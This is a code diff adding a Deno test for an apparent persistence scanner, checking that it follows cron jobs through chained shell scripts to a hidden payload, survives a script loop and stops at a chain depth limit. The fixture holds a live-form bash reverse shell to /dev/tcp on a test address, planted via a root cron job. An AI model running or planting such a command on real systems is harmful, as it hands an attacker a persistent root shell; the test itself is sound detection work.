@@ -243,6 +243,34 @@ Deno.test("persistence: a clean-looking entry that runs a script holding a paylo
   assert.deepEqual(unit.metadata.indicators, ["dev_tcp_redirect:/usr/local/bin/syshealth.sh:3"]);
 });
 
+Deno.test("persistence: a payload down a chain of scripts is found; a loop of scripts and a fifth link end", async () => {
+  const rev = "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1";
+  const script = (content: string) => ({ content: `#!/bin/sh\n${content}\n`, mode: 0o755 });
+  using root = makeTree(base({
+    "etc/cron.d/backup": "0 3 * * * root /usr/local/sbin/backup.sh\n",
+    "usr/local/sbin/backup.sh": script("tar czf /var/backups/etc.tgz /etc\n/usr/local/lib/backup/rotate.sh"),
+    "usr/local/lib/backup/rotate.sh": script(". /usr/local/lib/backup/common.sh"),
+    "usr/local/lib/backup/common.sh": script(`${rev} &`),
+    // A loop: a.sh runs b.sh, which runs a.sh; nothing in either.
+    "etc/cron.d/loop": "*/5 * * * * root /usr/local/sbin/a.sh\n",
+    "usr/local/sbin/a.sh": script("/usr/local/sbin/b.sh"),
+    "usr/local/sbin/b.sh": script("/usr/local/sbin/a.sh"),
+    // The payload in the fifth script of a chain is past the chain's end.
+    "etc/cron.d/deep": "0 * * * * root /opt/d/1.sh\n",
+    "opt/d/1.sh": script("/opt/d/2.sh"),
+    "opt/d/2.sh": script("/opt/d/3.sh"),
+    "opt/d/3.sh": script("/opt/d/4.sh"),
+    "opt/d/4.sh": script("/opt/d/5.sh"),
+    "opt/d/5.sh": script(rev),
+  }));
+  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
+  assert.deepEqual(summary(r.findings).filter((f) => f.includes("persistence.command")), [
+    "critical persistence.command.reverse_shell /etc/cron.d/backup",
+  ]);
+  const f = r.findings.find((x) => x.metadata.path === "/etc/cron.d/backup")!;
+  assert.deepEqual(f.metadata.indicators, ["dev_tcp_redirect:/usr/local/lib/backup/common.sh:2"]);
+});
+
 Deno.test("persistence: sudoers — passwordless root, !authenticate, env_keep of code, untrusted includes", async () => {
   using root = makeTree(base({
     "etc/sudoers": [
